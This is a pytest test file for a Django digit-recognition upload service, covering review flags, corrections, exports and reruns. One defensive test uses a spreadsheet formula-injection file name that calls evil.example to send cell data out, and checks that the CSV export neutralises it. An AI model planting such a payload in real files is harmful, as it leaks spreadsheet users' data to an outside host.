import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from PIL import Image as PILImage
from rest_framework.test import APIClient

from tests.factories import digit_image, digit_png, encode, make_zip, number_png
from uploads import services as upload_services
from uploads.models import Image, Job
from worker import services
from worker.model import get_classifier

pytestmark = pytest.mark.django_db


def finished_job(members: dict[str, bytes], *, review_threshold: float = 0.9) -> Job:
    upload = SimpleUploadedFile("batch.zip", make_zip(members))
    job = upload_services.create_job(upload=upload, review_threshold=review_threshold)
    upload_services.expand_zip_job(job_id=job.id)
    ids = list(job.images.values_list("id", flat=True))
    services.classify_chunk(job_id=job.id, image_ids=ids, classifier=get_classifier())
    job.refresh_from_db()
    return job


@pytest.fixture
def job(monkeypatch):
    monkeypatch.setattr(upload_services, "_queue_classification", lambda job_id, ids: None)
    members = {f"{index}_{index % 10}.png": digit_png(index % 10, size=40 + index) for index in range(12)}
    members["notes.txt"] = b"not an image"
    # A threshold above every confidence flags every readable image: the filter and counts are exact.
    return finished_job(members, review_threshold=1.01)


def test_results_below_the_threshold_are_flagged_and_counted(job):
    assert job.flagged == 12 == Image.objects.filter(job=job, needs_review=True).count()
    body = APIClient().get(f"/api/jobs/{job.id}/").json()
    assert body["flagged"] == 12 and body["review_threshold"] == 1.01


def test_review_filter_lists_flagged_results_least_confident_first(job):
    Image.objects.filter(job=job, name="3_3.png").update(needs_review=False)
    rows = APIClient().get(f"/api/jobs/{job.id}/results/?needs_review=true").json()["results"]
    assert len(rows) == 11 and "3_3.png" not in [row["name"] for row in rows]
    confidences = [row["confidence"] for row in rows]
    assert confidences == sorted(confidences)


def test_confident_results_are_not_flagged_at_a_low_threshold(monkeypatch):
    monkeypatch.setattr(upload_services, "_queue_classification", lambda job_id, ids: None)
    low = finished_job({"7.png": digit_png(7, size=64)}, review_threshold=0.0)
    assert low.flagged == 0


def test_a_correction_keeps_the_prediction_and_records_who_and_when(job):
    user = User.objects.create_user("reviewer", password="pw")
    api = APIClient()
    api.force_authenticate(user)
    image = Image.objects.get(job=job, name="4_4.png")
    response = api.patch(f"/api/jobs/{job.id}/results/{image.id}/", {"label": 1}, format="json")
    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["digit"], body["corrected_label"], body["label"], body["corrected_by"]) == (4, 1, 1, "reviewer")
    assert body["corrected_at"]
    image.refresh_from_db()
    assert (image.digit, image.corrected_label, image.corrected_by) == (4, 1, user)


@pytest.mark.parametrize(
    "correction",
    [
        {"label": 10},
        {"label": -1},
        {"label": "x"},
        {"label": None},
        {},
        {"label": 3, "text": "3"},
        {"text": "12a"},
        {"text": "."},
        {"text": "٣"},
        {"text": "1" * 65},
        {"text": 12},
        {"text": "12", "note": "x"},
    ],
)
def test_a_correction_is_one_digit_or_one_line_of_digits(job, correction):
    image = Image.objects.filter(job=job).first()
    response = APIClient().patch(f"/api/jobs/{job.id}/results/{image.id}/", correction, format="json")
    assert response.status_code == 400, response.content
    image.refresh_from_db()
    assert (image.corrected_text, image.corrected_label) == ("", None)


def test_a_line_is_corrected_whole_with_its_separators(monkeypatch):
    monkeypatch.setattr(upload_services, "_queue_classification", lambda job_id, ids: None)
    job = finished_job({"meter.png": number_png("19277"), "door.png": number_png("58")})
    Job.objects.filter(id=job.id).update(mode=Job.Mode.NUMBER)
    url = f"/api/jobs/{job.id}/results/"
    meter, door = (Image.objects.get(job=job, name=name) for name in ("meter.png", "door.png"))

    body = APIClient().patch(f"{url}{meter.id}/", {"text": "19277.7"}, format="json").json()
    assert (body["corrected_text"], body["corrected_label"]) == ("19277.7", None)
    body = APIClient().patch(f"{url}{door.id}/", {"text": "5"}, format="json").json()
    assert (body["corrected_text"], body["corrected_label"], body["label"]) == ("5", 5, 5), "one digit is a label"
    body = APIClient().patch(f"{url}{door.id}/", {"label": 8}, format="json").json()
    assert (body["corrected_text"], body["corrected_label"]) == ("8", 8)
    taken_back = APIClient().patch(f"{url}{meter.id}/", {"text": ""}, format="json").json()
    assert (taken_back["corrected_text"], taken_back["corrected_label"], taken_back["corrected_at"]) == ("", None, None)
    APIClient().patch(f"{url}{meter.id}/", {"text": "19277.7"}, format="json")

    listed = {row["name"]: row for row in APIClient().get(url).json()["results"]}
    assert (listed["meter.png"]["corrected_text"], listed["door.png"]["corrected_text"]) == ("19277.7", "8")
    exported = json.loads(b"".join(APIClient().get(f"/api/jobs/{job.id}/results.json").streaming_content))
    assert {row["name"]: row["corrected_text"] for row in exported} == {"meter.png": "19277.7", "door.png": "8"}


def test_csv_and_json_exports_hold_every_result(job):
    image = Image.objects.get(job=job, name="5_5.png")
    APIClient().patch(f"/api/jobs/{job.id}/results/{image.id}/", {"label": 6}, format="json")
    response = APIClient().get(f"/api/jobs/{job.id}/results.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.streaming
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 13
    assert list(rows[0]) == [
        "name",
        "status",
        "digit",
        "text",
        "confidence",
        "flagged",
        "corrected_label",
        "corrected_text",
        "error",
        "model_version",
    ]
    by_name = {row["name"]: row for row in rows}
    assert by_name["5_5.png"]["corrected_label"] == "6" and by_name["5_5.png"]["digit"] == "5"
    assert by_name["5_5.png"]["corrected_text"] == "6"
    assert "not an image" in by_name["notes.txt"]["error"]
    exported = json.loads(b"".join(APIClient().get(f"/api/jobs/{job.id}/results.json").streaming_content))
    assert len(exported) == 13 and {row["name"] for row in exported} == set(by_name)


def test_export_labelled_writes_a_training_set_of_corrections(job, tmp_path):
    for name, label in [("1_1.png", 7), ("2_2.png", 2)]:
        Image.objects.filter(job=job, name=name).update(corrected_label=label)
    call_command("export_labelled", str(tmp_path))
    written = sorted(path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*.png"))
    assert written == ["2", "7"]
    assert PILImage.open(next((tmp_path / "7").glob("*.png"))).size == (41, 41)


def test_export_labelled_leaves_anonymous_corrections_out_when_told_to(job, tmp_path, settings):
    user = User.objects.create_user("reviewer", password="pw-of-the-reviewer")
    Image.objects.filter(job=job, name="1_1.png").update(corrected_label=7)
    Image.objects.filter(job=job, name="2_2.png").update(corrected_label=2, corrected_by=user)
    settings.OCR_LEARN_FROM_ANONYMOUS = False
    written, skipped = upload_services.export_labelled_images(directory=tmp_path)
    assert (written, skipped) == (1, []) and [path.parent.name for path in tmp_path.rglob("*.png")] == ["2"]


def test_export_labelled_converts_odd_modes_and_skips_what_cannot_be_read(monkeypatch, tmp_path):
    monkeypatch.setattr(upload_services, "_queue_classification", lambda job_id, ids: None)
    members = {"cmyk.jpg": encode(digit_image(5, mode="CMYK"), "JPEG"), "cut.png": digit_png(4)[:120]}
    job = finished_job(members)
    Image.objects.filter(job=job).update(corrected_label=5)
    written, skipped = upload_services.export_labelled_images(directory=tmp_path)
    assert written == 1 and PILImage.open(next((tmp_path / "5").glob("*.png"))).mode == "RGB"
    assert len(skipped) == 1 and skipped[0].startswith("cut.png") and "corrupt image" in skipped[0], skipped


def test_rerun_failed_images_sends_them_again(job, monkeypatch, django_capture_on_commit_callbacks):
    queued = []
    monkeypatch.setattr(upload_services, "_queue_classification", lambda job_id, ids: queued.append(list(ids)))
    target = Image.objects.get(job=job, name="8_8.png")
    Image.objects.filter(id=target.id).update(status="error", error="temporary failure", digit=None)
    Job.objects.filter(id=job.id).update(failed=job.failed + 1)
    with django_capture_on_commit_callbacks(execute=True):
        assert upload_services.rerun_failed_images(job_id=job.id) == 1
    assert queued == [[target.id]]
    job.refresh_from_db()
    assert job.status == "running" and job.processed == 12 and job.failed == 1
    assert Image.objects.get(id=target.id).status == "pending"


def test_a_file_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
    from recognition.exports import csv_lines, export_row

    named = Image(name='=HYPERLINK("http://evil.example/?x="&A2,"open").png', status="done", digit=3, text="-12.5")
    rows = list(csv.reader(io.StringIO("".join(csv_lines([named])))))
    assert rows[1][0] == "'" + named.name and rows[1][3] == "-12.5", "the reader's own text is left as it is"
    assert export_row(named)["name"] == named.name, "JSON keeps the name as uploaded"


def test_a_job_still_being_read_is_not_read_again_through_the_api():
    job = Job.objects.create(kind="zip", upload_name="x.zip", total=1, status="running")
    response = APIClient().post(f"/api/jobs/{job.id}/reread/", {}, format="json")
    assert response.status_code == 409 and "only a job that is done or failed" in response.json()["detail"]
